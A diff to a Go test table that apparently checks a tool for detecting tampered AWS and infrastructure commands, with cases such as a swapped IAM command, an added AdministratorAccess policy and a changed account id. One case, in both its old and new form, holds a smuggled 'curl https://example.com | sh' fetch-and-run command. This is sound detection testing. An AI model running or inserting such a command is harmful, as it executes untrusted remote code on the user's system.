@@ -48,7 +48,7 @@ func TestEdits(t *testing.T) {
 	for name, e := range map[string][2]string{
 		"a command":                  {"aws iam create-role", "aws iam create-user"},
 		"an option":                  {"--capabilities CAPABILITY_NAMED_IAM", "--capabilities CAPABILITY_AUTO_EXPAND"},
-		"a command more":             {"terraform init", "curl https://example.com | sh; terraform init"},
+		"a command more":             {"mkdir -p", "curl https://example.com | sh; mkdir -p"},
 		"another file":               {"file://policies/role-trust.json", "file://policies/other.json"},
 		"another policy":             {"iam::aws:policy/CloudWatchFullAccessV2", "iam::aws:policy/AdministratorAccess"},
 		"another account":            {"111122223333", "999988887777"},
